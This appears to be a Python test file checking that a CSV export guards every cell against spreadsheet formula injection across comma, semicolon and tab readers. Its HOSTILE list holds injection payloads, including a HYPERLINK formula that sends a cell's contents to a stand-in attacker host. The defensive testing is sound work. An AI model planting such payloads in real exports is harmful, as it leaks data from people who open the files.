"""A csv cell never starts a formula for any reader (issue 39, finding 8).

The writer uses ';', but LibreOffice with its default separators, or any comma or tab reader, splits a
value at a ',' or a tab inside it, and a line reader at a newline: a phone note `Sinyal lemah,=1+1`
written bare gave a comma reader the cell `=1+1`. Every field is quoted (csv.QUOTE_ALL) and a
formula character right after a separator inside a value gets the same `'` as one at its start, so
the file is read back here with ',' ';' and tab as separators (quote-aware and naive) and no cell
starts with =, +, - or @ (but a plain signed number)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from server.core.spreadsheets import FORMULA_PREFIXES, SIGNED_NUMBERS, csv_file, csv_value

HOSTILE = [
    "Sinyal lemah,=1+1",
    "a\t=1+1",
    "x\n=1+1",
    "x\r=1+1",
    "x\r\n@SUM(A1)",
    "a;=1+1",
    "a,+1+A1",
    "a,-1+A1",
    "a,@SUM(A1:A9)",
    'a,"=1+1"',
    'a,""@x',
    "a,\t=1+1",
    "=1+1",
    "+A1",
    "-A1",
    "@SUM(A1)",
    '"=1+1',
    ",=1+1",
    "a,,=1+1",
    "=1+1,=2+2;=3+3\t=4+4\n=5+5",
    '=HYPERLINK("http://attacker.example/?x="&A2,"Klik")',
]
# Harmless text that stays exactly as it was (a coordinate pair, signed numbers, a sentence).
# A leading space keeps a cell text (as " =1+1" at a value's start: test_spreadsheets.py).
PLAIN = [
    "-6.200000, 106.800000",
    "1, -2",
    "Lokasi: -6,2; 106,8",
    "Sinyal lemah, coba lagi",
    "a - b",
    "a, =1+1",
    'a,"  =1+1',
]
COLUMNS = [("first", "Nama"), ("note", "Catatan"), ("last", "Keterangan")]


def written(values: list[Any]) -> str:
    rows = [{"first": "Budi", "note": value, "last": value} for value in values]
    with csv_file(COLUMNS, rows) as output:
        text = output.read().decode("utf-8")
    assert text.startswith("\ufeff")
    return text[1:]


def cells_read_by(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def cells_split_naively(text: str, delimiter: str) -> list[str]:
    """A reader that knows no quoting: lines, then the separator, the quotes around a part dropped."""
    return [part.strip('"') for line in text.splitlines() for part in line.split(delimiter)]


def formula_cells(cells: list[str]) -> list[str]:
    return [
        cell for cell in cells if cell.startswith(FORMULA_PREFIXES[:4]) and not SIGNED_NUMBERS.fullmatch(cell)
    ]


def test_every_field_is_quoted() -> None:
    text = written(["Budi", 12, None])
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line
    assert text.splitlines()[0] == '"Nama";"Catatan";"Keterangan"'
    assert text.splitlines()[1] == '"Budi";"Budi";"Budi"'
    assert text.splitlines()[2] == '"Budi";"12";"12"'


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_reader_finds_a_formula_cell(delimiter: str) -> None:
    text = written(HOSTILE)
    assert formula_cells(cells_read_by(text, delimiter)) == []
    assert formula_cells(cells_split_naively(text, delimiter)) == []


def test_the_semicolon_reader_gets_each_value_back_with_its_guards() -> None:
    text = written(HOSTILE + PLAIN)
    cells = cells_read_by(text, ";")
    notes = cells[3 + 1 :: 3]
    assert notes == [csv_value(value) for value in HOSTILE + PLAIN]
    # The guard adds only apostrophes.
    for value, note in zip(HOSTILE, notes[: len(HOSTILE)], strict=True):
        assert note != value
        assert note.replace("'", "") == value.replace("'", "")
    # Harmless text is written as it is.
    assert notes[len(HOSTILE) :] == PLAIN


def test_the_issue_s_note() -> None:
    assert csv_value("Sinyal lemah,=1+1") == "Sinyal lemah,'=1+1"
    assert csv_value("=1+1") == "'=1+1"
    assert csv_value("a\t=1+1") == "a\t'=1+1"
    assert csv_value("x\n=1+1") == "x\n'=1+1"
